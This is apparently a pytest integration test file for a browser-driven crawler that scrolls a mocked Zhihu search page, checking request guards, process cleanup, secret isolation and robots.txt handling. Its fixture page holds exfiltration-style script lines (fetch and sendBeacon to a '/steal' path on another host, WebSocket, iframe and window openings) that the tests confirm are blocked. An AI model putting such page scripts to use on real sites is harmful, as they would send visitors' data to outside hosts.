"""A search page whose own script makes the call, read in a real browser behind the guard."""

import json
import os
import subprocess
import threading
import time
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from browser.find import find_browser
from crawlers.processes import Process, descendants, running_processes
from domain.brand import Transport
from domain.coverage import CoverageState
from domain.errors import BrowserMissing
from domain.queries import MentionFilter
from tests.integration.crawling import House
from tests.integration.replay_server import ReplayServer, Reply, Seen

pytestmark = [pytest.mark.integration, pytest.mark.browser]


@pytest.fixture(autouse=True)
def _needs_a_browser() -> None:
    try:
        find_browser(None)
    except BrowserMissing as error:
        pytest.skip(f"{error}; mend: apt install chromium")


def answers(first: int, number: int, at: datetime) -> list[dict[str, object]]:
    """Entries of a search_v3 reply."""
    return [
        {
            "type": "search_result",
            "object": {
                "type": "answer",
                "id": str(1_000_000 + n),
                "content": f"<p>这家奶茶第{n}条回答</p>",
                "excerpt": f"这家奶茶第{n}条回答",
                "created_time": int((at - timedelta(minutes=n)).timestamp()),
                "updated_time": int((at - timedelta(minutes=n)).timestamp()),
                "voteup_count": 3,
                "comment_count": 1,
                "url": f"https://api.zhihu.com/answers/{1_000_000 + n}",
                "question": {"id": "77", "name": "奶茶如何", "url": "", "type": "question"},
                "author": {"name": "路人", "url_token": "someone", "id": "a1"},
            },
        }
        for n in range(first, first + number)
    ]


class ZhihuSite:
    """A search page that asks `search_v3` when it opens and again at each scroll to its end."""

    def __init__(self, replies: int, *, page: bytes = b"", elsewhere: str = "") -> None:
        self.replies = replies
        self.page = page
        self.elsewhere = elsewhere
        self.now = datetime.now(UTC).replace(microsecond=0)

    def __call__(self, seen: Seen) -> Reply:
        """Answer one request."""
        if seen.path == "/robots.txt":
            return Reply(b"User-agent: *\nDisallow: /secret\n")
        if seen.path == "/search":
            html = {"Content-Type": "text/html; charset=utf-8"}
            return Reply(self.page or self._search(), headers=html)
        if seen.path == "/api/v4/search_v3":
            offset = int(seen.query["offset"])
            number = offset // 20 + 1
            body = {
                "paging": {
                    "is_end": number >= self.replies,
                    "next": f"/api/v4/search_v3?offset={offset + 20}",
                },
                "data": answers(offset, 20, self.now),
            }
            return Reply(json.dumps(body).encode(), headers={"Content-Type": "application/json"})
        return Reply(status=404)

    def _search(self) -> bytes:
        return f"""<!doctype html><html><head><title>搜索结果 - 知乎</title></head><body>
<div id="list" style="height:3000px">…</div><img src="{self.elsewhere}/pixel.png">
<video src="/film.mp4" autoplay></video>
<script>
let offset = 0, end = false, busy = false;
async function more() {{
  if (end || busy) return; busy = true;
  const reply = await fetch('/api/v4/search_v3?t=general&q=x&limit=20&offset=' + offset);
  const body = await reply.json();
  offset += 20; end = body.paging.is_end; busy = false;
  document.getElementById('list').style.height = (3000 + offset * 100) + 'px';
}}
addEventListener('scroll', more); more();
fetch('/secret/data').catch(() => 0);
fetch('{self.elsewhere}/steal?by=fetch').catch(() => 0);
navigator.sendBeacon('{self.elsewhere}/steal?by=beacon', 'x');
try {{ new WebSocket('{self.elsewhere}'.replace('http', 'ws') + '/socket'); }} catch (e) {{}}
const frame = document.createElement('iframe'); frame.src = '{self.elsewhere}/frame';
document.body.append(frame);
open('{self.elsewhere}/window');
open('/secret/window');
</script></body></html>""".encode()


@pytest.fixture
def elsewhere() -> Iterator[ReplayServer]:
    with ReplayServer(lambda _: Reply(b"x")) as site:
        yield site


def zhihu(tmp_path: Path, site: ReplayServer, **options: object) -> House:
    return House(
        tmp_path,
        site.base_url,
        spider="zhihu_search",
        transport=Transport.BROWSER,
        **options,  # type: ignore[arg-type]
    )


def test_replies_to_the_pages_own_call_are_read_while_scrolling(tmp_path, elsewhere):
    page = ZhihuSite(3, elsewhere=elsewhere.base_url)
    with ReplayServer(page) as site, zhihu(tmp_path, site) as house:
        outcome = house.crawl()
        assert (outcome.state, outcome.reason) == (CoverageState.OK, "")
        assert (outcome.pages, outcome.new) == (3, 60)
        assert house.services.store.count(MentionFilter(public_voice_only=False)) == 60
        offsets = [s.query["offset"] for s in site.seen if s.path == "/api/v4/search_v3"]
        assert offsets == ["0", "20", "40"]
        # nothing of the page reached the other host, whichever way it tried
        assert elsewhere.seen == []
        assert "/film.mp4" not in site.paths()
        assert not any(path.startswith("/secret") for path in site.paths())
        agents = {seen.headers["User-Agent"] for seen in site.seen}
        assert agents == {"Koubei/0.1 (+ops@example.com)"}


def test_a_search_with_more_than_ten_scrolls_is_partial(tmp_path, elsewhere):
    page = ZhihuSite(30, elsewhere=elsewhere.base_url)
    day = timedelta(days=1)
    with ReplayServer(page) as site, zhihu(tmp_path, site, backfill=day) as house:
        outcome = house.crawl()
        assert (outcome.state, outcome.reason) == (CoverageState.PARTIAL, "result_ceiling")
        assert outcome.pages == 11
        # it came newest first, a minute apart: the last 220 minutes were seen, the rest was not
        states = {(row.state, row.backfill) for row in house.rows()}
        assert (CoverageState.OK, False) in states
        assert (CoverageState.PARTIAL, True) in states


def test_a_page_without_the_call_is_a_failure_not_an_empty_result(tmp_path):
    quiet = b"<!doctype html><html><head><title>x</title></head><body>loading</body></html>"
    with ReplayServer(ZhihuSite(1, page=quiet)) as site, zhihu(tmp_path, site) as house:
        outcome = house.crawl()
        assert (outcome.state, outcome.reason) == (CoverageState.FAILED, "timeout")


def test_a_redirect_inside_the_browser_to_another_host_reaches_nothing(tmp_path, elsewhere):
    def answer(seen: Seen) -> Reply:
        if seen.path == "/robots.txt":
            return Reply(status=404)
        return Reply(status=302, headers={"Location": f"{elsewhere.base_url}/inside"})

    with ReplayServer(answer) as site, zhihu(tmp_path, site) as house:
        outcome = house.crawl()
        assert (outcome.state, outcome.reason) == (CoverageState.FAILED, "address_refused")
        assert elsewhere.seen == []


def test_a_missing_browser_is_said_and_nothing_is_asked(tmp_path):
    nowhere = f"[browser]\npath = '{tmp_path / 'no-browser'}'\n"
    with ReplayServer(ZhihuSite(1)) as site, zhihu(tmp_path, site, settings=nowhere) as house:
        outcome = house.crawl()
        assert (outcome.state, outcome.reason) == (CoverageState.FAILED, "browser_missing")
        assert site.seen == []
        assert {row.reason for row in house.rows()} == {"browser_missing"}


def test_after_the_wall_clock_no_process_of_the_browser_is_left(tmp_path):
    many = ZhihuSite(100)

    def endless(seen: Seen) -> Reply:
        """Each reply takes its time: ten of them last longer than the wall clock allows."""
        return replace(many(seen), delay=4.0 if seen.path.startswith("/api") else 0.0)

    ours: set[Process] = set()

    strangers = descendants(os.getpid())  # of other tests

    def look(site: ReplayServer) -> None:
        deadline = time.monotonic() + 30
        while not site.pages() and time.monotonic() < deadline:
            time.sleep(0.05)
        ours.update(descendants(os.getpid()) - strangers)

    with ReplayServer(endless) as site, zhihu(tmp_path, site) as house:
        looking = threading.Thread(target=look, args=(site,))
        looking.start()
        outcome = house.crawl(wall_clock=timedelta(seconds=18), grace=timedelta(seconds=0.5))
        looking.join()
        assert (outcome.state, outcome.reason) == (CoverageState.FAILED, "wall_clock")
        assert "wall_clock" in {row.reason for row in house.rows()}
        assert len(ours) > 3  # worker, driver, and the several processes of a browser
        assert _left_of(ours, seconds=40) == set()


def test_a_worker_that_is_killed_takes_its_browser_along(tmp_path):
    hanging = ZhihuSite(1, page=b"<html><body>waiting</body></html>")
    with ReplayServer(hanging) as site, zhihu(tmp_path, site) as house:
        process = subprocess.Popen(
            [*house.command(), "--watch", "tea", "--source", "site"],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        deadline = time.monotonic() + 30
        while not site.pages() and time.monotonic() < deadline:
            time.sleep(0.05)
        ours = descendants(process.pid)
        process.kill()
        process.wait()
        assert len(ours) > 2
        assert _left_of(ours, seconds=40) == set()


def _left_of(processes: set[Process], *, seconds: float) -> set[Process]:
    """Wait for processes to be gone and return those that are not."""
    deadline = time.monotonic() + seconds
    while True:
        left = processes & {process for process, _ in running_processes()}
        if not left or time.monotonic() > deadline:
            return left
        time.sleep(0.1)


def test_descendants_finds_grandchildren():
    process = subprocess.Popen(["sh", "-c", "sh -c 'sleep 20 & wait' & wait"])
    try:
        deadline = time.monotonic() + 5
        while len(descendants(process.pid)) < 2 and time.monotonic() < deadline:
            time.sleep(0.05)
        found = descendants(process.pid)
        assert len(found) >= 2
    finally:
        for pid in [*(child.pid for child in descendants(process.pid)), process.pid]:
            subprocess.run(["kill", "-9", str(pid)], check=False)
        process.wait()


@pytest.mark.skipif(not Path("/proc").exists(), reason="needs /proc; mend: run it on Linux")
def test_neither_the_browser_nor_its_pages_know_our_secrets(tmp_path, monkeypatch):
    monkeypatch.setenv("KOUBEI_TEST_PASSWORD", "known-to-the-worker-alone")
    hanging = ZhihuSite(1, page=b"<html><body>waiting</body></html>")
    with ReplayServer(hanging) as site, zhihu(tmp_path, site) as house:
        process = subprocess.Popen(
            [*house.command(), "--watch", "tea", "--source", "site"],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        deadline = time.monotonic() + 60
        while not site.pages() and time.monotonic() < deadline:
            time.sleep(0.05)
        told = _environments(descendants(process.pid))
        process.kill()
        process.wait()
    browsers = [environ for command, environ in told.items() if b"--remote-debugging" in command]
    assert browsers
    assert not any(b"known-to-the-worker-alone" in environ for environ in browsers)


def _environments(processes: set[Process]) -> dict[bytes, bytes]:
    """Return what the processes know, by their command."""
    told: dict[bytes, bytes] = {}
    for child in processes:
        folder = Path("/proc") / str(child.pid)
        with suppress(OSError):  # gone by now
            told[(folder / "cmdline").read_bytes()] = (folder / "environ").read_bytes()
    return told


def test_a_trial_in_a_browser_reads_one_reply_and_keeps_nothing(tmp_path):
    site = ZhihuSite(replies=3)
    with ReplayServer(site) as server, zhihu(tmp_path, server) as house:
        trial = house.try_page()
        assert (trial.state, trial.found) == (CoverageState.OK, 20)
        assert server.paths().count("/api/v4/search_v3") == 1
        assert trial.next
        assert house.rows() == []
        assert house.services.store.count(MentionFilter(public_voice_only=False)) == 0


def test_a_browser_opens_what_robots_txt_forbids_only_under_a_sheet(tmp_path):
    class Forbidding(ZhihuSite):
        def __call__(self, seen: Seen) -> Reply:
            if seen.path == "/robots.txt":
                return Reply(b"User-agent: *\nDisallow: /api/\n")
            return super().__call__(seen)

    with (
        ReplayServer(Forbidding(replies=1)) as server,
        zhihu(tmp_path, server) as house,
    ):
        assert house.crawl().reason == "robots"
        assert "/api/v4/search_v3" not in server.paths(), "the page may be opened, its call not"
        signed = house.sign()
        outcome = house.crawl()
        assert (outcome.state, outcome.found) == (CoverageState.OK, 20)
        rows = [row for row in house.rows() if row.run_id == outcome.run_id]
        assert {row.assessment_id for row in rows} == {signed.id}
